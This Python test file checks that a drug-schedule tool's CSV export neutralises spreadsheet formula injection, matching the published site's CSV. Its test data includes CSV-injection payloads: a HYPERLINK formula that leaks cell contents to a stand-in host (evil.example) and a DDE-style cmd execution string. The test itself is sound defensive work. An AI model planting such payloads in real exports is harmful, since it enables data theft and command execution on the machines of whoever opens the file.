"""``status --format csv`` neutralises formula cells exactly as the site's status.csv does
(issue 16, item 15): one CSV writer. Scraped text that starts with =, +, -, @, a tab or a
carriage return is what a spreadsheet runs as a formula ("CSV injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from reports.site import publish
from scrapers.store import Store
from tests.support.config import write_config
from tests.support.site_data import NOW, T1, archive, fetch, make_settings, record, state

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def formula_store(tmp_path: Path) -> Store:
    store = Store(tmp_path / "data")
    with store.transaction(started_at=T1, jurisdictions=["au"]) as w:
        sha = archive(store, w, "au-poisons-standard", "v1", T1)
        for i, text in enumerate(FORMULAS):
            w.open_interval(record("au-poisons-standard", f"drug-{i}", sha, T1, schedule="8",
                                   listed_as=text, provision=text, basis="named"), at=T1)
        fetch(w, "au-poisons-standard", T1, sha=sha)
        w.save_source_state(state("au-poisons-standard", health="healthy", at=T1, sha=sha))
        w.finish(finished_at=T1, exit_code=0, summary={})
    return store


def rows_by_substance(text: str) -> dict[str, dict[str, str]]:
    return {row["substance"]: row for row in csv.DictReader(io.StringIO(text))}


def test_status_csv_neutralises_formulas_like_the_site(tmp_path: Path, run_cli) -> None:
    store = formula_store(tmp_path)
    site = publish(make_settings(tmp_path, watch="all"), store, now=NOW)
    store.close()
    config = write_config(tmp_path / "schedwatch.toml", data_dir=tmp_path / "data", sources={})
    result = run_cli("--config", str(config), "status", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    cli_rows = rows_by_substance(result.stdout)
    # newline="": a CR inside a quoted cell is data, not a line end (the csv module's rule).
    with open(site / "status.csv", encoding="utf-8", newline="") as handle:
        site_rows = rows_by_substance(handle.read())
    assert len(cli_rows) == len(FORMULAS)
    for i, text in enumerate(FORMULAS):
        name = f"drug-{i}"
        for column in ("listed_as", "provision"):
            cell = cli_rows[name][column]
            assert cell == "'" + text, (column, cell)  # shown as text, not run
            assert cell == site_rows[name][column]  # exactly as the site's CSV
        assert cli_rows[name]["basis"] == "named"  # plain cells are left as they are
